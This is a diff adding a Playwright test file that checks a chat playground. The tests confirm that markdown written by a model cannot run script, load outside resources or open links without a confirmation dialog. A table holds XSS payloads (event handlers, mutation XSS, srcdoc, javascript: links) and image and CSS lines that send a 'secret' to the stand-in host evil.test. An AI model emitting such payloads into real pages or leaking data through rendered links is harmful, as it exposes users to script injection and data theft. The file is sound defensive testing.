@@ -1,0 +1,84 @@
+import { expect, type Page, test } from 'playwright/test'
+import { repeat } from './playground-page.ts'
+
+/** What a model may write to run a script in the page, or to carry words out of it. */
+const attacks: Record<string, string> = {
+  'image with a handler': '<img src=x onerror="window.hacked=1">',
+  script: '<script>window.hacked=1</script>',
+  svg: '<svg onload="window.hacked=1"><animate onbegin="window.hacked=1" attributeName=x dur=1s></svg>',
+  mutation: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
+  srcdoc: '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  'script address': '[click](javascript:window.hacked=1) [data](data:text/html,<script>hacked=1</script>) <javascript:window.hacked=1>',
+  'inline image': '![x](https://evil.test/?q=secret)',
+  'reference image': '![x][r]\n\n[r]: https://evil.test/?q=secret',
+  'html image': '<img src="https://evil.test/a.png"> <video poster="https://evil.test/b.png"></video>',
+  style: '<style>body{background:url(https://evil.test/c)}</style> <p style="background:url(https://evil.test/d)">x</p>',
+  stylesheet: '<link rel=stylesheet href="https://evil.test/e.css"><meta http-equiv=refresh content="0;url=https://evil.test">',
+  form: '<form action="https://evil.test"><input autofocus onfocus="window.hacked=1"></form>',
+  code: '```html\n<img src=x onerror="window.hacked=1">\n```',
+}
+
+async function outside(page: Page): Promise<string[]> {
+  const seen: string[] = []
+  const own = test.info().project.use.baseURL
+  page.on('request', (request) => {
+    const { origin, protocol } = new URL(request.url())
+    if (origin !== own && protocol !== 'data:') seen.push(request.url())
+  })
+  return seen
+}
+
+test('nothing that a model writes runs, or asks another server', async ({ page }) => {
+  test.setTimeout(120_000)
+  const seen = await outside(page)
+  await page.goto('/')
+  for (const [name, attack] of Object.entries(attacks)) {
+    await repeat(page, attack)
+    const found = await page.evaluate(() => {
+      const said = document.querySelector('.transcript')
+      const active = said?.querySelectorAll('script,iframe,object,embed,style,link,meta,form,base,math,video,img:not([src^="data:"])')
+      const handlers = [...(said?.querySelectorAll('*') ?? [])].flatMap((element) =>
+        element.getAttributeNames().filter((each) => each.startsWith('on')),
+      )
+      return [Reflect.get(window, 'hacked') ?? 'safe', active?.length, handlers.length]
+    })
+    expect([name, ...found]).toEqual([name, 'safe', 0, 0])
+  }
+  expect(seen).toEqual([])
+})
+
+test('the page forbids what it does not need, whatever the markdown lets through', async ({ page }) => {
+  await page.goto('/')
+  const policy = await page.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content')
+  expect(policy).not.toMatch(/unsafe-(?:eval|inline)|https?:|\*/)
+  const refused = await page.evaluate(async () => {
+    const violations: string[] = []
+    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
+    const place = document.body.appendChild(document.createElement('div'))
+    place.innerHTML = '<img src="https://evil.test/a.png"><p style="color:red">x</p><button onclick="window.hacked=1">x</button>'
+    place.querySelector('button')?.click()
+    await fetch('https://evil.test/').catch(() => undefined)
+    await new Promise((resolve) => setTimeout(resolve, 100))
+    place.remove()
+    return [Reflect.get(window, 'hacked'), ...new Set(violations)].sort()
+  })
+  expect(refused).toEqual(['connect-src', 'img-src', 'script-src-attr', 'style-src-attr', undefined])
+})
+
+test('a link is followed only after it was shown where it leads', async ({ page, context }) => {
+  const seen = await outside(page)
+  await page.goto('/')
+  await repeat(page, '[the weather](https://evil.test/?said=everything)')
+  const link = page.getByTestId('message-assistant').getByRole('link')
+  await expect(link).toHaveAttribute('rel', /noopener noreferrer/)
+  await expect(link).toHaveAttribute('target', '_blank')
+  await expect(link).toContainText('evil.test')
+  await link.click()
+  const question = page.getByRole('dialog', { name: 'Leave the playground?' })
+  await expect(question).toContainText('https://evil.test/?said=everything')
+  await question.getByRole('button', { name: 'Stay' }).click()
+  await link.click({ button: 'middle' })
+  await expect(question).toBeVisible()
+  expect(context.pages()).toHaveLength(1)
+  expect(seen).toEqual([])
+})
